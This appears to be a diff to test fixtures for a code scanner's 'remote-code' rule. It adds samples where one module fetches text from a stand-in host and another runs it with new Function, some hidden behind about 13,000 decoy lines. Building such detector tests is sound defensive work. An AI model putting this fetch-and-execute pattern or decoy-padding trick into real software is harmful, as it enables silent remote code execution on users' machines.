@@ -5,20 +5,41 @@ function at(rule: string, severity: 'high' | 'medium', line: number, file = 'ind
   return { rule, file, line, severity };
 }
 
+const THREE = {
+  'get.js': "export async function get() {\n  return (await fetch('https://a.weir.test/r')).text();\n}\n",
+  'run.js': 'export function run(text) {\n  return new Function(text)();\n}\n',
+};
+const JOINED =
+  "import { get } from './get.js';\nimport { run } from './run.js';\nexport async function check() {\n  return run(await get());\n}\n";
+/** 520,000 characters each: a line that is repeated, and what several modules are. */
+const DECOYS = Array.from({ length: 13_000 }, (_, i) => `export const d${i} = (s) => s.env.NODE_ENV;\n`).join(
+  '',
+);
+const MODULES = Array.from({ length: 13_000 }, (_, i) => {
+  const member = i.toString(26).replace(/\d/g, (digit) => 'qrstuvwxyz'[Number(digit)] ?? '');
+  return `export const d${i} = (s) => s.${member}.${member}_of;\n`;
+}).join('');
+
 /** What servers say, run by JavaScript that somebody calls or that gives it to an interpreter. */
 export const REMOTE: Samples = {
   malicious: [
     {
       name: 'one file fetches, one runs, and a third joins them in a function',
-      files: imported(
-        "import { get } from './get.js';\nimport { run } from './run.js';\nexport async function check() {\n  return run(await get());\n}\n",
-        {
-          'get.js':
-            "export async function get() {\n  return (await fetch('https://a.weir.test/r')).text();\n}\n",
-          'run.js': 'export function run(text) {\n  return new Function(text)();\n}\n',
-        },
-      ),
+      files: imported(JOINED, THREE),
       expected: [at('remote-code', 'high', 4)],
+    },
+    {
+      name: 'the three of them behind thousands of lines that all say the same',
+      files: imported(DECOYS + JOINED, THREE),
+      expected: [at('remote-code', 'high', 13_004)],
+    },
+    {
+      name: 'what another file fetches, run when a bundle is loaded',
+      files: imported(
+        `${MODULES}import { get } from './get.js';\nget().then((text) => new Function(text)());\n`,
+        THREE,
+      ),
+      expected: [at('remote-code', 'high', 13_002)],
     },
     {
       name: 'one file fetches, and another one runs it when it is loaded',
@@ -74,6 +95,7 @@ export const REMOTE: Samples = {
         },
       ),
     ),
+    quiet('the three of them in a bundle of many modules', imported(MODULES + JOINED, THREE)),
     quiet(
       'a program that is no interpreter reads what a server says',
       imported(
